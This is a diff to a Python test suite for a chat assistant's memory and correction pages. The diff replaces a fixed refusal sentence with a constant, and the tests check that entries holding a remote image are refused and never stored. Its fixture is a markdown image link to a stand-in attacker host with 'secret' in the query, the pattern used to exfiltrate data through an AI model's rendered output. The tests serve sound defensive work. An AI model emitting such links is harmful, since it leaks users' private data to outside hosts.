@@ -15,7 +15,7 @@ from ui.page.memory.memory import MemoryHandlers
 from ui.streaming.runs import Runs
 
 PICTURE = "I meant this one: ![it](https://attacker.test/p.png?q=secret)"
-SENTENCE = "This holds a picture from the web, which is not kept in memory; please take it out and save again."
+REFUSED = NotKept("holds.picture").sentence
 
 
 def test_a_clarification_is_refused_before_anything_is_noted(store: Store) -> None:
@@ -32,7 +32,7 @@ def test_the_page_says_why_and_the_words_can_be_changed_and_sent_again(store: St
     turn = loop.ask("what is akin to quick ?")
     chat = ConversationHandlers(loop.assistant, Runs(), store.sharing(SharingRules()))
     sent = {"run": "r", "conversation": "c", "turn": turn.id, "text": PICTURE}
-    assert drained(chat.clarify(sent, ME, "page"))[-1]["refused"] == SENTENCE
+    assert drained(chat.clarify(sent, ME, "page"))[-1]["refused"] == REFUSED
     assert not drained(chat.clarify(sent | {"text": "a synonym"}, ME, "page"))[-1]["refused"]
     assert active(store) == ["a synonym"]
 
@@ -41,7 +41,7 @@ def test_a_correction_in_chat_ends_with_the_sentence_and_can_be_said_again(store
     loop = Loop(store, WRONG, "<correction>this one</correction>", "<correction>a synonym</correction>", RIGHT)
     loop.ask("what is akin to quick ?")
     refused = loop.ask(f"no, {PICTURE}")
-    assert (refused.state, refused.error) == (TurnState.FAILED, SENTENCE)
+    assert (refused.state, refused.error) == (TurnState.FAILED, REFUSED)
     assert active(store) == []
 
 
@@ -50,8 +50,8 @@ def test_an_edit_and_a_wording_are_refused(store: Store) -> None:
     loop.clarify(loop.ask("what is akin to quick ?"), "a synonym")
     (entry,) = store.memory.entries(ME)
     page = MemoryHandlers(store.memory, store.sharing(SharingRules()))
-    assert page.edit({"entry": entry.id, "text": PICTURE}, ME) == {"refused": SENTENCE}
-    assert page.rekey({"entry": entry.id, "old": "", "new": PICTURE}, ME) == {"refused": SENTENCE}
+    assert page.edit({"entry": entry.id, "text": PICTURE}, ME) == {"refused": REFUSED}
+    assert page.rekey({"entry": entry.id, "old": "", "new": PICTURE}, ME) == {"refused": REFUSED}
     assert store.memory.entry(entry.id, ME) == entry
     with pytest.raises(InputError, match="2,001 characters long"):
         store.memory.edit(entry.id, "x" * 2001, ME)
